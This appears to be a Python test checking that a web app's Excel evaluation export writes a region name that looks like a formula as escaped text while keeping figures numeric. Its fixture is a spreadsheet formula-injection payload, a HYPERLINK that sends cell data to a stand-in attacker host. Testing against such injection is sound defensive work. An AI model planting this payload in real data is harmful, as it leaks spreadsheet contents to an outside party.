"""The evaluation workbook goes through fengqiao.web.spreadsheets: a name that reads like a formula
is written as text, and the figures stay numbers."""

from io import BytesIO

from openpyxl import load_workbook

from fengqiao.regions.models import Region

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def test_a_name_typed_like_a_formula_is_exported_as_text(client, users):
    Region.objects.filter(code="990102001000").update(name=HOSTILE)
    client.force_login(users["county"])
    response = client.get(
        "/evaluation/export.xlsx", {"kind": "township", "from": "2026-01-01", "to": "2026-01-31"}
    )
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).active
    header = [cell.value for cell in sheet[2]]
    row = next(row for row in sheet.iter_rows(min_row=3) if row[header.index("编码")].value == "990102001000")
    name = row[header.index("名称")]
    assert name.data_type == "s" and name.value == "'" + HOSTILE
    assert isinstance(row[header.index("受理数")].value, int)
